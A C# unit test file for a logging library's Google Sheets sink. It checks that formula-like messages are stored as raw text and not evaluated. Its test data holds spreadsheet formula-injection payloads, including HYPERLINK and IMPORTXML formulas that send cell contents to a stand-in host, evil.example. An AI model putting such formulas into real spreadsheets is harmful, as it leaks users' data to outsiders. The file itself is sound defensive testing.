using System.Security.Cryptography;
using System.Text.Json.Nodes;
using Hilt.Aop.GoogleSheets.Tests;

namespace Hilt.Aop.Reliability.Tests;

/// <summary>Text that starts like a spreadsheet formula reaches Google Sheets as text, never as a formula.</summary>
[Trait(Category.Name, Category.Secrets)]
public sealed class FormulaInjectionTests
{
    public static TheoryData<string> Formulas() => new()
    {
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "=IMPORTXML(CONCAT(\"http://evil.example/\",B2),\"//a\")",
        "\t=1+1",
        "=1+1\n=2+2",
    };

    [Theory]
    [MemberData(nameof(Formulas))]
    public async Task GoogleSheetsSink_FormulaLookingMessage_SentAsRawTextAndStoredUnchanged(string formula)
    {
        using var key = RSA.Create(2048);
        using var folder = new TempFolder();
        await using var google = await FakeGoogle.StartAsync(key);
        google.AddWorksheet("Logs");
        var options = new HiltOptions().WriteToGoogleSheets(o =>
        {
            o.SpreadsheetId = FakeGoogle.SpreadsheetId;
            o.CredentialsJson = FakeGoogle.CredentialsJson(key, google.TokenUri);
            o.SheetsBaseUri = google.BaseUri;
            o.BatchInterval = TimeSpan.FromMilliseconds(20);
            o.SpoolPath = folder.File("spool.jsonl");
        });
        await using (var recorder = new HiltRecorder(options))
        {
            recorder.Emit(Events.Prompt(formula));
        }

        var append = Assert.Single(google.Appends);
        Assert.Contains("valueInputOption=RAW", append.Query, StringComparison.Ordinal);
        Assert.DoesNotContain("USER_ENTERED", append.Query, StringComparison.Ordinal);
        var header = google.Rows("Logs")[0].Select(c => c?.GetValue<string>()).ToList();
        var row = google.Rows("Logs")[1];
        var message = row[header.IndexOf(HiltColumns.Message)];
        Assert.Equal(System.Text.Json.JsonValueKind.String, JsonValueKind(message));

        // The message column folds white space; everything else of the text arrives as it was.
        Assert.Equal(string.Join(' ', formula.Split((char[]?)null, StringSplitOptions.RemoveEmptyEntries)), message!.GetValue<string>());
    }

    private static System.Text.Json.JsonValueKind JsonValueKind(JsonNode? node) => node?.GetValueKind() ?? System.Text.Json.JsonValueKind.Null;
}
